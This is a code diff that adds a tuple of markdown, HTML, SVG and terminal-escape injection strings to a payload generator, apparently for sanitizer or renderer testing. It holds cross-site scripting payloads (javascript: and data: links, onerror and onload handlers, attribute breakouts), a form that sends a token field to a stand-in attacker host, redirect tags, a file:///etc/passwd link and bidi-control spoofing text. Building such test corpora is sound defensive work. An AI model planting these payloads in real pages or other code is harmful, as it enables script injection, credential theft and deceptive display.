@@ -51,7 +51,44 @@ _QUIET: Final = (
 )
 
 
+MARKDOWN: Final = (
+    "[x](javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](JaVaScRiPt&#58;alert(1))",
+    "[x](java\tscript:alert(1)) [y](\x01javascript:alert(1)) [z](//evil.invalid/x)",
+    "<javascript:alert(1)> <data:text/html,<b>>",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "[x]: data:text/html,<script>alert(1)</script>\n\n![x] [x]",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:null/1)",
+    '[x](https://evil.invalid/"onmouseover="alert(1))',
+    "[x](https://evil.invalid 'a\" onclick=\"alert(1)')",
+    "| [x](javascript:alert(1)) | ![y](data:text/html,z) |\n|-|:-:|\n| <svg onload=alert(1)> | `<script>` **<i>** |",
+    "| a |\n|-|\n| | | | | | <img src=x onerror=alert(1)> |",
+    "&#60;script&#62;alert(1)&#60;/script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
+    "```html\n<script>alert(1)</script>",
+    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
+    "~~~js onload=alert(1)\n</code></pre><script>alert(1)</script>",
+    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
+    '<p style="position:fixed;inset:0;z-index:9999">over everything</p>',
+    "<form action=//evil.invalid><input name=token><button>continue</button></form>",
+    '<meta http-equiv="refresh" content="0;url=//evil.invalid"><base href="//evil.invalid/">',
+    '<iframe src="javascript:alert(1)"></iframe><embed src=//evil.invalid><object data=//evil.invalid>',
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/><animate onbegin=alert(1)></svg>',
+    "<!--[if IE]><script>alert(1)</script><![endif]--> <![CDATA[<script>alert(1)</script>]]>",
+    "$\\href{javascript:alert(1)}{x}$ \\<script>alert(1)\\</script>",
+    "> " * 60 + "<script>alert(1)</script>",
+    "- " * 40 + "[x](javascript:alert(1))",
+    "\x1b[31mred\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\x1b[0m \x1bP1;2|a\x1b\\",
+    "if admin == '\u202e' and \u2066# is not\u2069 ok: \u200b\u2028next",
+    "W" * 4000 + "<script>alert(1)</script>",
+)
+"""what markdown, highlighting or a terminal view could make something of"""
+
+
 def payloads(number: int = 500) -> list[str]:
     """So many, all different."""
     made = [around.format(where.format(run)) for around, where, run in itertools.product(_AROUND, _WHERE, _RUNS)]
-    return [*_QUIET, *made][:number]
+    return [*_QUIET, *MARKDOWN, *made][:number]
